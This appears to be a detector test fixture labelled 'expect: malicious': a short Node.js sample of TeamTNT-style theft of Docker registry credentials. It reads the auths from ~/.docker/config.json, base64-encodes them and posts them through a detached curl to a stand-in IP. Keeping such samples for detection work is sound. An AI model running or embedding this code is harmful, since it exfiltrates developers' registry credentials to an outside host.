// expect: malicious
// source: registry-credential theft from ~/.docker/config.json (TeamTNT-style image poisoning, 2021-2023): the path
// falls back from $DOCKER_CONFIG to a join under the home, and the auths are posted by a detached `sh -c` curl.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const file = path.join(process.env.DOCKER_CONFIG || path.join(os.homedir(), '.docker'), 'config.json');
const auths = JSON.parse(fs.readFileSync(file, 'utf8')).auths || {};
const body = Buffer.from(JSON.stringify(auths)).toString('base64');
spawn('sh', ['-c', `curl -s -X POST -d "${body}" http://203.0.113.77/d/r`], { detached: true, stdio: 'ignore' }).unref();
